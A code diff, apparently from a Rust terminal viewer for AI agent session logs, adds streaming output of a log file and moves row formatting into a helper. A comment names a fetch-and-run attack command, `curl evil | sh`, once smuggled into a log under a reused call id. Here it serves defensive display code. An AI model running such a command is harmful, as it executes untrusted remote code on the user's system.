@@ -15,6 +15,7 @@ use crate::cli::{ColorChoice, InputArgs};
 use crate::protocol::FrameType;
 use crate::render::{lines_to_string, sgr};
 use crate::session::{Item, MessageKind, Session};
+use crate::source::SourceKind;
 use crate::theme::Theme;
 
 /// Default width when stdout is not a terminal and no `--width` is given.
@@ -46,6 +47,19 @@ pub async fn run(
     } else {
         crate::render::Limits::default()
     };
+    if !detail && let SourceKind::File(path) = super::source_kind(input) {
+        return match tokio::task::spawn_blocking(move || stream_feed(&path)).await {
+            Ok(Ok(r)) => super::exit_code(r, 0),
+            Ok(Err(e)) => {
+                eprintln!("rawpv: {e}");
+                2
+            }
+            Err(e) => {
+                eprintln!("rawpv: {e}");
+                2
+            }
+        };
+    }
     let session = match super::load_session(input).await {
         Ok((s, _)) => s,
         Err(e) => {
@@ -77,79 +91,161 @@ pub async fn run(
     super::exit_code(r, 0)
 }
 
+/// `print` of a file, rows written as the file folds (issue 17): after each batch, the rows from
+/// the first one not yet written up to the first one that can still change (an open call, an
+/// open message) are written and their content dropped (a call's summary, result record and
+/// chunk text; a message's text; an event's frame), so memory holds what is still open plus one
+/// small record a call (the reducer's state for later frames). At the end every row is final.
+///
+/// # Errors
+/// `Err`: the file cannot be read (phrased for the user); `Ok(Err)`: writing failed (a closed
+/// pipe is `Ok(Ok(()))`).
+fn stream_feed(path: &std::path::Path) -> Result<std::io::Result<()>, String> {
+    let stdout = std::io::stdout();
+    let mut out = std::io::BufWriter::new(stdout.lock());
+    let mut next = 0;
+    let mut write_err = None;
+    let folded = crate::source::file::fold_path_each(path, Session::new(), |s| {
+        write_final_rows(&mut out, s, &mut next).map_err(|e| {
+            write_err = Some(e);
+            std::io::Error::other("output stopped")
+        })
+    });
+    let written = if let Some(e) = write_err {
+        Err(e)
+    } else {
+        if let Err(e) = folded {
+            let shown = crate::render::text::visible(&path.display().to_string());
+            return Err(format!("cannot read {shown}: {e}"));
+        }
+        out.flush()
+    };
+    Ok(match written {
+        Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => Ok(()),
+        other => other,
+    })
+}
+
+/// Writes the rows from `*next` on that can no longer change (all of them once the session has
+/// ended), drops their content, and moves `*next` past them.
+fn write_final_rows(
+    out: &mut dyn Write,
+    session: &mut Session,
+    next: &mut usize,
+) -> std::io::Result<()> {
+    while *next < session.items.len() {
+        let idx = *next;
+        let done = match &session.items[idx] {
+            Item::Invocation(i) => !session.invocations[*i].status.is_open(),
+            // A closed message is never continued (deltas go to open ones).
+            Item::Message(m) => m.done,
+            Item::Event(_) => true,
+        };
+        if !done && !session.ended {
+            break;
+        }
+        write_row(out, session, idx)?;
+        match &mut session.items[idx] {
+            Item::Invocation(i) => {
+                let inv = &mut session.invocations[*i];
+                inv.summary = Box::default();
+                inv.result = None;
+                inv.request_envelope = None;
+                inv.result_envelope = None;
+                inv.stream.forget_text();
+            }
+            Item::Message(m) => {
+                m.text = String::new();
+                m.metadata = serde_json::Map::new();
+            }
+            Item::Event(f) => {
+                let body = crate::protocol::Body::Generic(serde_json::Map::new());
+                **f = crate::protocol::Frame::new(f.frame_type.clone(), body);
+            }
+        }
+        *next += 1;
+    }
+    Ok(())
+}
+
 /// Writes one line per feed item.
 pub fn write_feed(out: &mut dyn Write, session: &Session) -> std::io::Result<()> {
-    for (idx, item) in session.items.iter().enumerate() {
-        match item {
-            Item::Invocation(i) => {
-                let inv = &session.invocations[*i];
-                // Names and ids are untrusted text too (issue 9).
-                // What the call did (the feed's summary), then its id for grep and `--detail`.
-                let summary = crate::render::ansi::visible_plain(&inv.summary);
-                let gap = if summary.is_empty() { "" } else { "  " };
-                writeln!(
-                    out,
-                    "{:<10} {:<9} {summary}{gap}[{}]",
-                    crate::render::text::visible(&inv.tool_name),
-                    crate::render::text::visible(inv.status.label()),
-                    crate::render::text::visible(&inv.invocation_id)
-                )?;
-            }
-            // An agent turn with only whitespace text is a quiet row in the viewer too.
-            Item::Message(_) if crate::session::query::is_quiet(session, idx) => {}
-            Item::Message(m) => {
-                let kind = match m.kind {
-                    MessageKind::Prompt => "prompt",
-                    MessageKind::AgentText => "agent",
-                    MessageKind::Thinking => "thinking",
-                };
-                let first = crate::session::summary::first_line(&m.text);
-                writeln!(
-                    out,
-                    "{kind:<10} {}",
-                    crate::render::ansi::visible_plain(&first)
-                )?;
-            }
-            Item::Event(f) => match &f.frame_type {
-                FrameType::SessionError | FrameType::AgentError => {
-                    let p = f.payload_json();
-                    let field = |k: &str| p.get(k).and_then(serde_json::Value::as_str);
-                    let msg = field("message").or_else(|| field("error")).unwrap_or("");
-                    let first = msg.lines().next().unwrap_or("");
-                    let code = field("error_code").map_or_else(String::new, |c| format!("{c}: "));
-                    writeln!(
-                        out,
-                        "{:<10} {}",
-                        crate::render::text::visible(f.frame_type.as_str()),
-                        crate::render::text::visible(&format!("{code}{first}"))
-                    )?;
-                }
-                // A request that is no call of its own (its `invocation_id` was taken or is
-                // missing) still says what it asked: a second `curl evil | sh` under a reused id
-                // appeared as a bare `tool.invoke.request` (second attack of issue 14).
-                FrameType::ToolInvokeRequest => {
-                    let p = f.payload_json();
-                    let tool = p.get("tool_name").and_then(serde_json::Value::as_str);
-                    let id = p.get("invocation_id").and_then(serde_json::Value::as_str);
-                    let input = p.get("input").cloned().unwrap_or_default();
-                    let summary =
-                        crate::session::summary::input_summary(tool.unwrap_or(""), &input);
-                    writeln!(
-                        out,
-                        "{:<10} {} {}  [{}] (not a call of its own: see check)",
-                        crate::render::text::visible(f.frame_type.as_str()),
-                        crate::render::text::visible(tool.unwrap_or("?")),
-                        crate::render::ansi::visible_plain(&summary),
-                        crate::render::text::visible(id.unwrap_or("no invocation_id"))
-                    )?;
-                }
-                _ => writeln!(
-                    out,
-                    "{:<10}",
-                    crate::render::text::visible(f.frame_type.as_str())
-                )?,
-            },
+    for idx in 0..session.items.len() {
+        write_row(out, session, idx)?;
+    }
+    Ok(())
+}
+
+/// Writes feed item `idx`'s line (none for a quiet message).
+fn write_row(out: &mut dyn Write, session: &Session, idx: usize) -> std::io::Result<()> {
+    match &session.items[idx] {
+        Item::Invocation(i) => {
+            let inv = &session.invocations[*i];
+            // Names and ids are untrusted text too (issue 9).
+            // What the call did (the feed's summary), then its id for grep and `--detail`.
+            let summary = crate::render::ansi::visible_plain(&inv.summary);
+            let gap = if summary.is_empty() { "" } else { "  " };
+            writeln!(
+                out,
+                "{:<10} {:<9} {summary}{gap}[{}]",
+                crate::render::text::visible(&inv.tool_name),
+                crate::render::text::visible(inv.status.label()),
+                crate::render::text::visible(&inv.invocation_id)
+            )?;
         }
+        // An agent turn with only whitespace text is a quiet row in the viewer too.
+        Item::Message(_) if crate::session::query::is_quiet(session, idx) => {}
+        Item::Message(m) => {
+            let kind = match m.kind {
+                MessageKind::Prompt => "prompt",
+                MessageKind::AgentText => "agent",
+                MessageKind::Thinking => "thinking",
+            };
+            let first = crate::session::summary::first_line(&m.text);
+            writeln!(
+                out,
+                "{kind:<10} {}",
+                crate::render::ansi::visible_plain(&first)
+            )?;
+        }
+        Item::Event(f) => match &f.frame_type {
+            FrameType::SessionError | FrameType::AgentError => {
+                let p = f.payload_json();
+                let field = |k: &str| p.get(k).and_then(serde_json::Value::as_str);
+                let msg = field("message").or_else(|| field("error")).unwrap_or("");
+                let first = msg.lines().next().unwrap_or("");
+                let code = field("error_code").map_or_else(String::new, |c| format!("{c}: "));
+                writeln!(
+                    out,
+                    "{:<10} {}",
+                    crate::render::text::visible(f.frame_type.as_str()),
+                    crate::render::text::visible(&format!("{code}{first}"))
+                )?;
+            }
+            // A request that is no call of its own (its `invocation_id` was taken or is
+            // missing) still says what it asked: a second `curl evil | sh` under a reused id
+            // appeared as a bare `tool.invoke.request` (second attack of issue 14).
+            FrameType::ToolInvokeRequest => {
+                let p = f.payload_json();
+                let tool = p.get("tool_name").and_then(serde_json::Value::as_str);
+                let id = p.get("invocation_id").and_then(serde_json::Value::as_str);
+                let input = p.get("input").cloned().unwrap_or_default();
+                let summary = crate::session::summary::input_summary(tool.unwrap_or(""), &input);
+                writeln!(
+                    out,
+                    "{:<10} {} {}  [{}] (not a call of its own: see check)",
+                    crate::render::text::visible(f.frame_type.as_str()),
+                    crate::render::text::visible(tool.unwrap_or("?")),
+                    crate::render::ansi::visible_plain(&summary),
+                    crate::render::text::visible(id.unwrap_or("no invocation_id"))
+                )?;
+            }
+            _ => writeln!(
+                out,
+                "{:<10}",
+                crate::render::text::visible(f.frame_type.as_str())
+            )?,
+        },
     }
     Ok(())
 }
